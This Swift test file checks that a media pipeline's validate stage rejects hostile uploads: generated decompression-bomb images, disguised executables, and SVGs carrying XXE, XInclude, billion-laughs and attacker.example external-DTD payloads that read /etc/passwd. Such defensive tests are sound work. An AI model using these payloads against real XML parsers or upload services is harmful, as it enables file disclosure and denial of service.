import Foundation
import IngestStages
import MediaFormats
import MediaIngest
import PipelineTesting
import TestSupport
import Testing

/// CRC-32 (PNG chunks), computed bit by bit: an independent implementation for building test files.
func crc32(_ bytes: [UInt8]) -> UInt32 {
    var crc: UInt32 = 0xFFFF_FFFF
    for byte in bytes {
        crc ^= UInt32(byte)
        for _ in 0..<8 { crc = (crc >> 1) ^ (crc & 1 == 1 ? 0xEDB8_8320 : 0) }
    }
    return ~crc
}

func bigEndian(_ value: UInt32) -> [UInt8] {
    [UInt8(value >> 24), UInt8(value >> 16 & 0xFF), UInt8(value >> 8 & 0xFF), UInt8(value & 0xFF)]
}

func pngChunk(_ type: String, _ data: [UInt8]) -> [UInt8] {
    let body = Array(type.utf8) + data
    return bigEndian(UInt32(data.count)) + body + bigEndian(crc32(body))
}

/// A small PNG file whose header claims `width` × `height` pixels (a decompression bomb: the IDAT is tiny).
func pngBomb(width: UInt32, height: UInt32) -> [UInt8] {
    let ihdr = bigEndian(width) + bigEndian(height) + [8, 0, 0, 0, 0]
    let idat: [UInt8] = [0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]
    return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + pngChunk("IHDR", ihdr) + pngChunk("IDAT", idat)
        + pngChunk("IEND", [])
}

/// A baseline JPEG whose frame header claims `width` × `height` (no real scan data).
func jpegBomb(width: UInt16, height: UInt16) -> [UInt8] {
    let sof: [UInt8] = [
        0xFF, 0xC0, 0x00, 0x0B, 0x08, UInt8(height >> 8), UInt8(height & 0xFF), UInt8(width >> 8), UInt8(width & 0xFF),
        0x01, 0x01, 0x11, 0x00,
    ]
    let sos: [UInt8] = [0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00]
    return [0xFF, 0xD8] + sof + sos + [0x00, 0x00] + [0xFF, 0xD9]
}

/// A WebP whose VP8X canvas claims `width` × `height`.
func webpBomb(width: Int, height: Int) -> [UInt8] {
    func le24(_ value: Int) -> [UInt8] { [UInt8(value & 0xFF), UInt8(value >> 8 & 0xFF), UInt8(value >> 16 & 0xFF)] }
    let vp8x: [UInt8] = Array("VP8X".utf8) + [10, 0, 0, 0] + [0, 0, 0, 0] + le24(width - 1) + le24(height - 1)
    let vp8l: [UInt8] = Array("VP8L".utf8) + [5, 0, 0, 0] + [0x2F, 0, 0, 0, 0] + [0]
    let body = Array("WEBP".utf8) + vp8x + vp8l
    let size = UInt32(body.count)
    return Array("RIFF".utf8) + [
        UInt8(size & 0xFF), UInt8(size >> 8 & 0xFF), UInt8(size >> 16 & 0xFF), UInt8(size >> 24),
    ] + body
}

@Suite("validate")
struct ValidateTests {
    /// What each adversarial file is rejected for by detect.mime + validate (profile wix, mismatch rejection on).
    static let adversarial: [String: Rejection.Code] = [
        "adversarial/decompression_bomb_extents.gif": .tooManyPixels,
        "adversarial/elf_named_photo.png": .extensionMismatch,
        "adversarial/html_named_photo.jpg": .extensionMismatch,
        "adversarial/jpeg_with_appended_zip.jpg": .polyglot,
        "adversarial/pe_exe_named_photo.gif": .extensionMismatch,
        "adversarial/php_in_exif_description.jpg": .embeddedCode,
        "adversarial/png_named_photo.jpg": .extensionMismatch,
        "adversarial/png_ztxt_decompression_dos.png": .metadataBomb,
        "adversarial/shell_script_named_photo.jpg": .extensionMismatch,
        "adversarial/svg_with_script.svg": .embeddedCode,
        "adversarial/text_named_photo.png": .extensionMismatch,
        "adversarial/tiff_ifd_loop.tiff": .malformed,
        "adversarial/truncated_after_exif_gps.jpg": .truncated,
        "adversarial/truncated_inside_exif.jpg": .truncated,
        "adversarial/zero_bytes.jpg": .empty,
    ]

    @Test("every adversarial corpus file is rejected with its specific reason by detect.mime + validate (wix)")
    func adversarialCorpus() async throws {
        let project = TemporaryDirectory()
        let files = Corpus.expectations(under: "adversarial/").map(\.path)
        #expect(Set(files) == Set(Self.adversarial.keys), "every adversarial file has an expected verdict")
        try copyCorpus(files, into: project.file("inbox"))
        let pipeline = try buildPipeline(
            #"""
            {"stages": [{"kind": "source.directory", "with": {"path": "inbox"}},
                        {"kind": "detect.mime"},
                        {"kind": "validate", "with": {"profile": "wix", "rejectExtensionMismatch": true}}]}
            """#, base: project.path)
        let report = await PipelineRunner(pipeline: pipeline).run()
        #expect(report.count(.rejected) == files.count)
        #expect(report.count(.failed) == 0)
        for record in report.assets {
            #expect(record.code == Self.adversarial[record.path]?.rawValue, "\(record.path): \(record.reason ?? "")")
            #expect(record.reason?.isEmpty == false)
            #expect(record.stage == "validate")
        }
        let bomb = try #require(report.assets.first { $0.path.hasSuffix("decompression_bomb_extents.gif") })
        #expect(
            bomb.reason
                == "65635x65635 = 4308 MP is over the 250 MP limit (frames extend the 100x100 canvas to 65635x65635)")
    }

    @Test("50000-pixel-class header bombs are stopped by maxPixels without decoding")
    func headerBombs() async throws {
        let directory = TemporaryDirectory()
        try Data(pngBomb(width: 50_000, height: 50_000)).write(to: URL(fileURLWithPath: directory.file("bomb.png")))
        try Data(jpegBomb(width: 65_000, height: 65_000)).write(to: URL(fileURLWithPath: directory.file("bomb.jpg")))
        try Data(webpBomb(width: 16_384, height: 16_384)).write(to: URL(fileURLWithPath: directory.file("bomb.webp")))
        let stage = try ValidateStage(
            options: .decode(["profile": "wix"], specs: ValidateStage.options),
            context: StageHarness<ValidateStage>.buildContext())
        let harness = StageHarness(stage)
        for (file, pixels) in [("bomb.png", "50000x50000"), ("bomb.jpg", "65000x65000"), ("bomb.webp", "16384x16384")] {
            let outcome = try await harness.process(file: directory.file(file), after: Self.detector)
            let rejection = try #require(outcome.rejection, "\(file)")
            #expect(rejection.code == .tooManyPixels, "\(file): \(rejection)")
            #expect(rejection.reason.hasPrefix(pixels))
        }
        // Under the limit they pass: the limit, not the format, decides.
        let lenient = try ValidateStage(
            options: .decode(["maxPixels": "5GP"], specs: ValidateStage.options),
            context: StageHarness<ValidateStage>.buildContext())
        #expect(
            try await StageHarness(lenient).process(file: directory.file("bomb.png"), after: Self.detector).asset?
                .dimensions == PixelSize(width: 50_000, height: 50_000))
    }

    /// validate judges the type detect.mime finds.
    static let detector = DetectStage()

    func validate(_ options: [String: JSONValue], _ file: String) async throws -> HarnessOutcome {
        let stage = try ValidateStage(
            options: .decode(options, specs: ValidateStage.options), context: StageHarness<ValidateStage>.buildContext()
        )
        return try await StageHarness(stage).process(file: file, after: Self.detector)
    }

    @Test(
        "validate uses detect.mime's verdict: a pipeline file without detect.mime before it is refused; one built in code stops the run"
    )
    func needsDetection() async throws {
        let directory = TemporaryDirectory()
        let refused = PipelineBuilder(registry: .builtins, environment: [:]).check(
            data: Data(
                #"{"stages": [{"kind": "source.directory", "with": {"path": "."}}, {"kind": "validate"}, {"kind": "detect.mime"}]}"#
                    .utf8),
            file: directory.file("pipelines/p.json"), baseDirectory: directory.path)
        #expect(
            refused.errors.map(\.description) == [
                #"stages[1].kind: "validate" needs a detect stage before it (add {"kind": "detect.mime"} earlier in "stages")"#
            ])
        let stage = try ValidateStage(
            options: .decode([:], specs: ValidateStage.options), context: StageHarness<ValidateStage>.buildContext())
        let pipeline = Pipeline.testing(
            files: [Corpus.path("images/jpeg/gps_minimal.jpg"), Corpus.path("images/png/iccp.png")],
            stages: [Pipeline.Component(stage)], concurrency: 1)
        let report = await PipelineRunner(pipeline: pipeline).run()
        #expect(report.outcome == .aborted)
        #expect(report.aborted == "validate needs the type detect.mime finds: put a detect.mime stage before it")
        #expect(
            report.assets.first?.code == "run_aborted" || report.assets.first?.status == .failed, "\(report.assets)")
    }

    @Test("size, type and dimension rules name the limit and the value")
    func rules() async throws {
        let iphone = Corpus.path("images/jpeg/gps_Apple_iPhone_4.jpg")
        let large = try await validate(["maxBytes": "300KB"], iphone)
        #expect(large.rejection?.code == .tooLarge)
        #expect(large.rejection?.reason == "338 kB is over the 300KB limit for image/jpeg")
        #expect(try await validate(["minBytes": "1MB"], iphone).rejection?.reason == "338 kB is under the 1MB minimum")
        #expect(
            try await validate(["allow": ["video/*", "application/pdf"]], iphone).rejection?.reason
                == "image/jpeg is not an allowed type (allow: video/*, application/pdf)")
        #expect(
            try await validate(["allow": ["image/*"], "deny": ["image/jpeg"]], iphone).rejection?.reason
                == "image/jpeg is denied (deny: image/jpeg)")
        #expect(
            try await validate(["maxWidth": 1000], iphone).rejection?.reason
                == "1296 pixels wide is over the 1000 limit")
        #expect(
            try await validate(["maxHeight": 900], iphone).rejection?.reason == "968 pixels tall is over the 900 limit")
        #expect(try await validate(["maxPixels": "1MP"], iphone).rejection?.code == .tooManyPixels)
        let pass = try await validate(["allow": ["image/*"], "maxBytes": "1MB", "maxPixels": "2MP"], iphone)
        #expect(pass.asset?.dimensions == PixelSize(width: 1296, height: 968))
        // The Wix profile's per-type limit applies unless maxBytes overrides it: SVG is limited to 250KB.
        #expect(try await validate(["profile": "wix"], Corpus.path("images/svg/minimal.svg")).asset != nil)
        #expect(
            try await validate(["profile": "wix", "maxBytes": "10B"], Corpus.path("images/svg/minimal.svg")).rejection?
                .code == .tooLarge)
        // Mismatch rejection can be turned off.
        #expect(
            try await validate(["rejectExtensionMismatch": false], Corpus.path("adversarial/png_named_photo.jpg")).asset
                != nil)
    }

    @Test("the Wix profile accepts every well-formed corpus file of a type Wix takes")
    func wixProfileOverCorpus() async throws {
        let stage = try ValidateStage(
            options: .decode(["profile": "wix"], specs: ValidateStage.options),
            context: StageHarness<ValidateStage>.buildContext())
        let harness = StageHarness(stage)
        // Files that are broken on purpose (truncated, no IHDR) or that Wix does not take (HTML).
        let expectedRejections: [String: Rejection.Code] = [
            "documents/minimal.html": .typeNotAllowed, "images/jpeg/truncated_progressive.jpg": .truncated,
            "images/jpeg/ultrahdr_mpf_gainmap.jpg": .truncated, "images/png/truncated_no_iend.png": .truncated,
            "images/png/broken_no_ihdr.png": .extensionMismatch,
        ]
        for file in Corpus.expectations where !file.path.hasPrefix("adversarial/") {
            let outcome = try await harness.process(file: file.absolutePath, after: Self.detector)
            #expect(
                outcome.rejection?.code == expectedRejections[file.path],
                "\(file.path): \(outcome.rejection?.description ?? "passed")")
        }
    }

    @Test("a custom profile file replaces the built-in table; a broken one is a configuration error")
    func profileFile() async throws {
        let directory = TemporaryDirectory()
        try #"{"name": "tiny", "groups": [{"name": "png", "extensions": ["png"], "maxBytes": "1KB"}]}"#.write(
            toFile: directory.file("tiny.json"), atomically: true, encoding: .utf8)
        let options: [String: JSONValue] = ["profileFile": .string(directory.file("tiny.json"))]
        #expect(
            try await validate(options, Corpus.path("images/png/iccp.png")).rejection?.reason
                == "5.79 kB is over the 1KB limit for image/png")
        #expect(
            try await validate(options, Corpus.path("images/jpeg/gps_minimal.jpg")).rejection?.reason
                == "the tiny profile does not accept image/jpeg")
        try #"{"name": "broken", "groups": [{"name": "png"}]}"#.write(
            toFile: directory.file("broken.json"), atomically: true, encoding: .utf8)
        #expect {
            _ = try ValidateStage(
                options: .decode(["profileFile": .string(directory.file("broken.json"))], specs: ValidateStage.options),
                context: StageHarness<ValidateStage>.buildContext())
        } throws: { error in
            "\(error)".hasPrefix(
                "profileFile: \(directory.file("broken.json")) is not a limits table: missing \"extensions\"")
        }
    }

    @Test("quarantine copies rejected files with a .reason.json; the source stays")
    func quarantine() async throws {
        let project = TemporaryDirectory()
        try copyCorpus(
            ["adversarial/zero_bytes.jpg", "adversarial/html_named_photo.jpg", "images/png/iccp.png"],
            into: project.file("inbox"))
        let pipeline = try buildPipeline(
            #"""
            {"stages": [{"kind": "source.directory", "with": {"path": "inbox"}},
                        {"kind": "detect.mime"},
                        {"kind": "validate", "with": {"quarantine": "quarantine"}}]}
            """#, base: project.path)
        let report = await PipelineRunner(pipeline: pipeline).run()
        #expect(report.count(.rejected) == 2)
        #expect(report.count(.done) == 1)
        let copied = project.file("quarantine/adversarial/html_named_photo.jpg")
        #expect(try sha256sum(copied) == (try sha256sum(Corpus.path("adversarial/html_named_photo.jpg"))))
        #expect(
            FileManager.default.fileExists(atPath: project.file("inbox/adversarial/html_named_photo.jpg")),
            "copy mode leaves the source")
        let reason = try JSONDecoder().decode(
            JSONValue.self, from: Data(contentsOf: URL(fileURLWithPath: copied + ".reason.json")))
        #expect(reason["code"] == "extension_mismatch")
        #expect(reason["mime"] == "text/html")
        #expect(reason["pipeline"] == "test")
        #expect(
            FileManager.default.fileExists(atPath: project.file("quarantine/adversarial/zero_bytes.jpg.reason.json")))
        #expect(!FileManager.default.fileExists(atPath: project.file("quarantine/images/png/iccp.png")))
    }

    @Test("option mistakes are configuration errors")
    func optionErrors() throws {
        #expect(throws: PipelineConfigurationError.self) {
            try OptionValues.decode(["maxPixels": "lots"], specs: ValidateStage.options)
        }
        #expect(throws: PipelineConfigurationError.self) {
            try OptionValues.decode(["allow": ["image"]], specs: ValidateStage.options)
        }
        #expect(throws: PipelineConfigurationError.self) {
            try OptionValues.decode(["profile": "wixx"], specs: ValidateStage.options)
        }
        #expect {
            _ = try ValidateStage(
                options: .decode(["minBytes": "2MB", "maxBytes": "1MB"], specs: ValidateStage.options),
                context: StageHarness<ValidateStage>.buildContext())
        } throws: { "\($0)" == "minBytes: minBytes (2MB) is larger than maxBytes (1MB)" }
    }
}

/// SVGs that attack XML parsers (XXE, parameter entities, entity expansion, external DTDs, XInclude, hiding
/// encodings) are rejected as `unsafe_svg` with `profile: "wix"`; a plain SVG and the W3C SVG 1.1 DOCTYPE pass.
@Suite("validate: hostile SVGs")
struct HostileSVGTests {
    static let cases: [(name: String, text: String, fragment: String)] = [
        (
            "xxe.svg",
            #"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>"#,
            "internal subset"
        ),
        (
            "parameter.svg",
            #"<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"/>"#,
            "internal subset"
        ),
        (
            "laughs.svg",
            #"<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>"#,
            "internal subset"
        ),
        (
            "external.svg",
            #"<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>"#,
            "external DTD"
        ),
        (
            "public-other.svg",
            #"<!DOCTYPE svg PUBLIC "-//EVIL//DTD X//EN" "http://attacker.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>"#,
            "external DTD"
        ),
        (
            "lowercase.svg",
            #"<!doctype svg [ <!entity x SYSTEM "file:///etc/hostname"> ]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>"#,
            "internal subset"
        ),
        ("entity-outside.svg", #"<svg xmlns="http://www.w3.org/2000/svg"><!ENTITY x "y"></svg>"#, "entity declaration"),
        (
            "xinclude.svg",
            #"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></svg>"#,
            "XInclude"
        ),
        (
            "utf7.svg",
            #"<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-/+AD4-"#,
            "encoding"
        ),
        (
            "two-doctypes.svg",
            #"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"/>"#,
            "more than one DOCTYPE"
        ),
    ]

    func validate(_ name: String, _ bytes: [UInt8], directory: TemporaryDirectory) async throws -> HarnessOutcome {
        let path = directory.file(name)
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        let stage = try ValidateStage(
            options: .decode(["profile": "wix"], specs: ValidateStage.options),
            context: StageHarness<ValidateStage>.buildContext())
        return try await StageHarness(stage).process(file: path, after: ValidateTests.detector)
    }

    @Test(
        "XXE, parameter entities, billion laughs, external DTDs, XInclude, UTF-7 and a second DOCTYPE are rejected",
        arguments: cases.map(\.name))
    func rejected(name: String) async throws {
        let directory = TemporaryDirectory()
        let entry = try #require(Self.cases.first { $0.name == name })
        let outcome = try await validate(name, Array(entry.text.utf8), directory: directory)
        // UTF-7 hides the markup from libmagic too: it is text/xml with an .svg name, rejected as a mismatch first.
        let codes: Set<Rejection.Code> = name == "utf7.svg" ? [.unsafeSVG, .extensionMismatch] : [.unsafeSVG]
        #expect(
            outcome.rejection.map { codes.contains($0.code) } == true,
            "\(name): \(String(describing: outcome.rejection))")
        if outcome.rejection?.code == .unsafeSVG {
            #expect(
                outcome.rejection?.reason.contains(entry.fragment) == true,
                "\(name): \(String(describing: outcome.rejection?.reason))")
        }
    }

    @Test("the same attack in UTF-16 is rejected too; a plain SVG and the W3C SVG 1.1 DOCTYPE pass")
    func encodingsAndTheW3CDoctype() async throws {
        let directory = TemporaryDirectory()
        let xxe = Self.cases[0].text
        let utf16: [UInt8] = [0xFF, 0xFE] + xxe.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        #expect(try await validate("utf16.svg", utf16, directory: directory).rejection?.code == .unsafeSVG)
        let w3c =
            #"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>"#
        let passed = try await validate("w3c.svg", Array(w3c.utf8), directory: directory)
        #expect(passed.asset != nil, "\(String(describing: passed.rejection))")
        #expect(
            try await validate(
                "minimal.svg", Array(try Data(contentsOf: URL(fileURLWithPath: Corpus.path("images/svg/minimal.svg")))),
                directory: directory
            ).asset != nil)
    }
}

@Suite("validate: trouble is not a verdict")
struct ValidateReadErrorTests {
    @Test("a file that cannot be read fails the asset (retried by the next run) instead of rejecting it for good")
    func readErrorIsAFailure() async throws {
        let directory = TemporaryDirectory()
        let path = directory.file("gone.jpg")
        try Data(try Data(contentsOf: URL(fileURLWithPath: Corpus.path("images/jpeg/gps_minimal.jpg")))).write(
            to: URL(fileURLWithPath: path))
        let stage = try ValidateStage(
            options: .decode(["profile": "wix"], specs: ValidateStage.options),
            context: StageHarness<ValidateStage>.buildContext())
        var asset = StageHarness<ValidateStage>.asset(for: path)
        try FileManager.default.removeItem(atPath: path)  // gone by the time validate reads it (an unmounted share)
        asset.contentPath = path
        do {
            let outcome = try await StageHarness(stage).process(asset)
            Issue.record("expected a thrown failure, got \(outcome)")
        } catch let error as any AssetFailureDescribing {
            #expect(error.failureCode == "io", "\(error)")
        }
    }
}
